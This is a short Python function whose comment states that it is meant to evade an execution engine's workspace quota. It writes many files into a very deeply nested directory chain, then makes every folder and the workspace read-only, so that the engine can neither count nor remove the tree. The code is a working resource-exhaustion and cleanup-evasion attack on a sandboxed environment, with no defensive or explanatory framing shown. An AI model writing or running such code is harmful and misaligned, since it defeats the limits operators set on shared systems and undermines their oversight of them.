import os


def execute(input_data):
    # Files past the workspace quota, then every folder made read-only (r-x: it still
    # opens, but nothing in it can be unlinked, nor can it be moved, by anyone without
    # CAP_DAC_OVERRIDE), the workspace itself last: an engine that cannot remove the tree
    # cannot count it either. Nested deeper than the engine's walk enters in one pass.
    n = int(input_data.get("files", 200))
    chain = "/".join(["locked"] + ["d"] * int(input_data.get("depth", 60)))
    os.makedirs(chain)
    for i in range(n):
        os.close(os.open(f"{chain}/f{i}", os.O_CREAT | os.O_WRONLY, 0o600))
    while chain:
        os.chmod(chain, 0o500)
        chain = chain.rpartition("/")[0]
    os.chmod(".", 0o500)
    return {"files": n}
